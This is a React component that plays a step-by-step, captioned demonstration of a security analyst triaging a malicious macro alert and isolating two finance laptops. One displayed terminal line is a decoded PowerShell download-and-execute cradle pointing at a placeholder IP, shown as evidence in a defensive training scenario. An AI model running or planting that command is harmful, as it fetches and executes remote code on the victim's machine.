import { Pause, Play, RotateCcw } from 'lucide-react';
import { useEffect, useState } from 'react';
import { button } from '#app/ui/button.ts';

/** A quest moment, step by step: what stands in the terminal, and what is being thought. */
const steps: { lines: string[]; caption: string }[] = [
  {
    lines: [
      'ALERT 4127  severity medium  09:14:22',
      'powershell.exe started by winword.exe',
      'host FIN-LT-031   user d.okeefe',
    ],
    caption: 'An alert: Word has started PowerShell on a laptop in finance. Documents rarely need to do that.',
  },
  {
    lines: [
      '$ timeline --host FIN-LT-031 --around 09:14',
      '09:13:58  outlook.exe   saved invoice_0914.docm',
      '09:14:20  winword.exe   opened invoice_0914.docm',
      '09:14:22  powershell.exe -enc SQBFAFgA...',
    ],
    caption: 'The minute before: a document with macros came by e-mail and was opened. The command is encoded.',
  },
  {
    lines: ['$ decode SQBFAFgA...', 'IEX (New-Object Net.WebClient)', '  .DownloadString("http://203.0.113.44/u")'],
    caption: 'Decoded, it fetches a script from an address and runs it. That is no false positive.',
  },
  {
    lines: [
      '$ connections --to 203.0.113.44',
      'FIN-LT-031   09:14:23   1.2 kB in',
      'FIN-LT-007   09:02:51   1.2 kB in',
    ],
    caption: 'Who else spoke to that address? A second laptop, twelve minutes earlier, without an alert.',
  },
  {
    lines: [
      '$ isolate FIN-LT-031 FIN-LT-007',
      '2 hosts isolated',
      '$ escalate 4127 --severity high --note triage.md',
      'handed to incident response  09:21:40',
    ],
    caption:
      'Both are cut off the network, and the case is handed on with its evidence: seven minutes from alert to response.',
  },
];

const stepMs = 5000;

/** A captioned demonstration one can pause, step and read; it starts only when asked to (P19). */
export function QuestDemo() {
  const [step, setStep] = useState(0);
  const [playing, setPlaying] = useState(false);
  const last = steps.length - 1;

  useEffect(() => {
    if (!playing) return;
    const timer = setTimeout(() => {
      setStep(Math.min(step + 1, last));
      if (step + 1 >= last) setPlaying(false);
    }, stepMs);
    return () => clearTimeout(timer);
  }, [playing, step, last]);

  const ended = step === last && !playing;
  function toggle() {
    if (ended) setStep(0);
    setPlaying(!playing);
  }

  return (
    <div>
      <ol className="grid grid-cols-[minmax(0,1fr)] gap-5">
        {steps.map(({ lines, caption }, at) => (
          <li
            key={caption}
            className={at <= step ? '' : 'hidden [@media(scripting:none)]:block'}
            aria-current={at === step ? 'step' : undefined}
          >
            <pre
              // biome-ignore lint/a11y/noNoninteractiveTabindex: what scrolls must be reachable by keyboard
              tabIndex={0}
              className="overflow-x-auto rounded-control bg-satin p-4 font-mono text-sm leading-relaxed text-on-satin"
            >
              {lines.join('\n')}
            </pre>
            <p className="mt-2 max-w-prose">{caption}</p>
          </li>
        ))}
      </ol>
      <div className="needs-scripts mt-6 flex flex-wrap items-center gap-3">
        <button type="button" onClick={toggle} className={button.primary}>
          {playing ? (
            <Pause className="size-4" aria-hidden="true" />
          ) : ended ? (
            <RotateCcw className="size-4" aria-hidden="true" />
          ) : (
            <Play className="size-4" aria-hidden="true" />
          )}
          {playing ? 'Pause' : ended ? 'Play again' : 'Play'}
        </button>
        <button
          type="button"
          onClick={() => setStep(Math.max(0, step - 1))}
          disabled={step === 0}
          className={`${button.quiet} disabled:opacity-50`}
        >
          Back
        </button>
        <button
          type="button"
          onClick={() => setStep(Math.min(last, step + 1))}
          disabled={step === last}
          className={`${button.quiet} disabled:opacity-50`}
        >
          Next
        </button>
        <p role="status" className="tabular text-mute">
          Step {step + 1} of {steps.length}
        </p>
      </div>
    </div>
  );
}
